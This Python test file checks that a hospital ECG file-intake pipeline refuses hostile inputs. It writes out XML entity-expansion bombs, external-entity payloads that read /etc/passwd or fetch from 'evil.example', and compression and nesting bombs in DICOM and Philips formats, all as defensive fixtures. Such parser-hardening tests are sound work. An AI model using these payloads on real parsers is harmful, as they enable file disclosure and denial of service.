"""Hostile files of hospital formats: bombs, depth, false counts, cuts and seeded damage end in a sentence, soon."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from dataclasses import replace

import numpy as np
import pytest

from pipeline.config import DEFAULT
from pipeline.errors import IntakeError, LimitError
from pipeline.intake.formats import dicom
from pipeline.intake.formats.sierra import UNPACKED_BYTES, unpacked_size
from pipeline.intake.formats.table import FORMATS, format_of
from pipeline.types import Recording
from tests.helpers import hospital_files as made
from tests.hostile.fuzzing import assert_survives, cuts

SHORT = made.counts(12, 2.0)
EIGHT = made.counts(8, 2.0)
READERS: dict[str, list[bytes]] = {
    "DICOM ECG": [made.dicom(SHORT), made.dicom(SHORT, syntax="1.2.840.10008.1.2")],
    "SCP-ECG": [made.scp(SHORT), made.scp(EIGHT, coded=True)],
    "HL7 aECG": [made.aecg(SHORT)],
    "GE MUSE XML": [made.muse(EIGHT)],
    "GE CardioSoft XML": [made.cardiosoft(SHORT)],
    "Philips Sierra XML": [made.sierra(SHORT), made.sierra(SHORT, compressed=False)],
    "Mortara ELI XML": [made.mortara(SHORT)],
}
XML = {name: files[0] for name, files in READERS.items() if name.endswith(("XML", "aECG"))}
ROOTS = {"HL7 aECG": "AnnotatedECG", "GE MUSE XML": "RestingECG", "GE CardioSoft XML": "CardiologyXML",
         "Philips Sierra XML": "restingecgdata", "Mortara ELI XML": "ECG"}  # fmt: skip


def _reader(name: str) -> Callable[[bytes], Recording]:
    found = next(each for each in FORMATS if each.name == name)
    return lambda payload: found.read("x", payload, DEFAULT.limits)


def _document(root: str, inside: str = "", prolog: str = "") -> bytes:
    marks = ' ACQUISITION_TIME="1"' if root == "ECG" else ""
    return f'<?xml version="1.0"?>{prolog}<{root}{marks}>{inside}</{root}>'.encode()


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(12)
) + "]>"  # fmt: skip


@pytest.mark.parametrize("name", ROOTS)
@pytest.mark.parametrize(
    ("inside", "prolog", "says"),
    [
        ("&m;", LAUGHS, "declares entities"),
        ("&x;", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "declares entities"),
        ("", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>', "declares entities"),
        ("", '<!DOCTYPE x [<!ELEMENT x ANY>]>', "declares entities"),
        ("&nothing;", "", "no well-formed XML"),
        ("<a>" * 100_000, "", "elements within each other"),
        ("<a>" * 100_000 + "</a>" * 100_000, "", "elements within each other"),
        ("<a/>" * 200_000, "", "more than 100,000 elements"),
    ],
)  # fmt: skip
def test_xml_bombs_are_refused_before_they_unfold(name: str, inside: str, prolog: str, says: str) -> None:
    payload = _document(ROOTS[name], inside, prolog)
    assert format_of(payload).name == name
    with pytest.raises(IntakeError, match=says) as refused:
        _reader(name)(payload)
    assert not assert_survives(_reader(name), payload)
    assert not any(word in str(refused.value) for word in ("/etc", "evil"))


def test_the_name_of_a_document_type_alone_is_passed() -> None:
    assert made.DOCTYPE.encode() in READERS["GE MUSE XML"][0]
    assert _reader("GE MUSE XML")(READERS["GE MUSE XML"][0]).p_signal.shape == (1000, 8)


@pytest.mark.parametrize("name", READERS)
def test_a_file_cut_anywhere_is_refused_or_read(name: str) -> None:
    for payload in READERS[name]:
        for cut in cuts(payload, 40):
            assert_survives(_reader(name), cut)


def test_compressed_leads_that_unpack_without_bound_are_refused() -> None:
    codes = [0] + list(range(256, 1023)) + [1022] * 200_000  # strings that grow, then the longest of them again
    bits = "".join(f"{code:010b}" for code in codes)
    bits += "0" * (-len(bits) % 8)
    packed = int(bits, 2).to_bytes(len(bits) // 8, "big")
    bomb = struct.pack("<ihh", len(packed), 0, 0) + packed
    with pytest.raises(LimitError, match="unpack to more than"):
        _reader("Philips Sierra XML")(made.sierra(SHORT, packed=bomb))
    small = struct.pack("<ihh", 2, 0, 0) + b"ab"
    with pytest.raises(LimitError, match="or are more than 32"):
        _reader("Philips Sierra XML")(made.sierra(SHORT, packed=small * 100_000))


def test_the_size_of_compressed_leads_is_what_they_unpack_to() -> None:
    from ecgdatakit.parsing.codecs.lzw import LzwDecoder

    packed = made.xli(SHORT)
    place = 0
    while place < len(packed):
        size = int.from_bytes(packed[place : place + 4], "little")
        chunk = packed[place + 8 : place + 8 + size]
        assert unpacked_size(chunk, UNPACKED_BYTES) == len(LzwDecoder(chunk, 10).read_all())
        place += 8 + size
    growing = "".join(f"{code:010b}" for code in (7, 256, 257, 258, 7, 300, 1023, 9))
    chunk = int(growing, 2).to_bytes(len(growing) // 8, "big")
    assert unpacked_size(chunk, UNPACKED_BYTES) == len(LzwDecoder(chunk, 10).read_all())
    assert unpacked_size(chunk, 3) == 3


def _deflated(content: bytes) -> bytes:
    """The file that has this content, compressed, behind a good beginning."""
    plain = made.dicom(SHORT, syntax="1.2.840.10008.1.2.1.99")
    start = made.dicom(SHORT).index(b"\x08\x00\x16\x00") + 2  # the longer name
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    return plain[:start] + squeeze.compress(content) + squeeze.flush()


def test_a_dicom_file_compressed_as_a_whole_is_inflated_within_bounds() -> None:
    plain, packed = made.dicom(SHORT), made.dicom(SHORT, syntax="1.2.840.10008.1.2.1.99")
    assert len(packed) < len(plain)
    np.testing.assert_array_equal(_reader("DICOM ECG")(packed).p_signal, _reader("DICOM ECG")(plain).p_signal)
    data = plain[plain.index(b"\x08\x00\x16\x00") :]
    assert _reader("DICOM ECG")(_deflated(data)).n_samples == 1000
    limits = replace(DEFAULT.limits, upload_bytes=2**20)
    with pytest.raises(LimitError, match="inflates to more than 1,048,576 bytes"):
        dicom.read("x", _deflated(data + bytes(2**20)), limits)
    assert not assert_survives(_reader("DICOM ECG"), _deflated(bytes(2**28)))
    assert not assert_survives(_reader("DICOM ECG"), packed[: len(packed) // 2])
    assert not assert_survives(_reader("DICOM ECG"), _deflated(packed))


@pytest.mark.parametrize(
    "inside",
    [
        b"\x08\x00\x00\x01SH\x00\x00" * 400_000,
        b"\x40\x00\x20\xb0SQ\x00\x00\xff\xff\xff\xff" + b"\xfe\xff\x00\xe0\x00\x00\x00\x00" * 400_000,
        b"\x40\x00\x20\xb0SQ\x00\x00" + struct.pack("<I", 8 * 400_000) + b"\xfe\xff\x00\xe0\x00\x00\x00\x00" * 400_000,
        (b"\x40\x00\x20\xb0SQ\x00\x00\xff\xff\xff\xff" + b"\xfe\xff\x00\xe0\xff\xff\xff\xff") * 50_000,
    ],
    ids=["elements", "items", "items of a stated length", "nested sequences"],
)
def test_dicom_files_of_countless_parts_are_refused(inside: bytes) -> None:
    plain = made.dicom(SHORT)
    start = plain.index(b"\x08\x00\x16\x00")
    waveform = plain.index(b"\x00\x54\x00\x01SQ")
    payload = plain[:start] + inside + plain[waveform:]
    assert not assert_survives(_reader("DICOM ECG"), payload)


def test_lists_of_numbers_that_take_a_hundred_times_their_size_are_refused() -> None:
    payload = made.mortara(SHORT[:, :1], ("I",)).replace(b'DATA="', b'DATA="' + b"1 " * (2 * 2**20))
    with pytest.raises(LimitError, match="more than 2,097,152 characters"):
        _reader("Mortara ELI XML")(payload)


def test_a_slow_huffman_table_is_bounded() -> None:
    ones = made.scp(EIGHT, coded=True)
    assert_survives(_reader("SCP-ECG"), ones.replace(struct.pack("<H", 19999), struct.pack("<H", 65535)))


@pytest.mark.parametrize("text", ["A" * 4_000_001, "1 -" * 1_500_000, "=" * 1000, "é" * 1000])
def test_garbage_in_place_of_samples_is_refused(text: str) -> None:
    sierra = made.sierra(SHORT, compressed=False).decode("utf-16")
    begin, end = sierra.index(">", sierra.index("<parsedwaveforms")) + 1, sierra.index("</parsedwaveforms>")
    for name, payload in (
        ("GE MUSE XML", made.muse(EIGHT[:, :1], ("I",), data=text)),
        ("Mortara ELI XML", made.mortara(SHORT[:, :1], ("I",)).replace(b'DATA="', b'DATA="' + text.encode())),
        ("Philips Sierra XML", (sierra[:begin] + text + sierra[end:]).encode("utf-16")),
    ):
        assert not assert_survives(_reader(name), payload)
